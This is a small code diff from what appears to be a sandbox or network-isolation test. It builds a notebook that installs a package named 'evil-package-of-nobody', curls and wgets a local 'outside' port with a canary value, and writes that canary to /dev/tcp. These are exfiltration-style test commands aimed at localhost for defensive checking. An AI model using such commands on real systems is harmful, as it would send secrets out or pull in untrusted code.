@@ -10,7 +10,7 @@ from world import World
 def notebook(world: World) -> bytes:
     address = f"http://127.0.0.1:{world.outside['tcp']}/"
     return world.notebook(
-        "%pip install evil-package-of-nobody",
+        "%pip install --retries 0 --timeout 1 evil-package-of-nobody",
         f"!curl -s {address}$canary; wget -qO- {address} ; cat /dev/null",
         f"%%bash --no-raise-error\n(echo $canary > /dev/tcp/127.0.0.1/{world.outside['tcp']}) 2>/dev/null; true",
         "%load_ext autoreload",
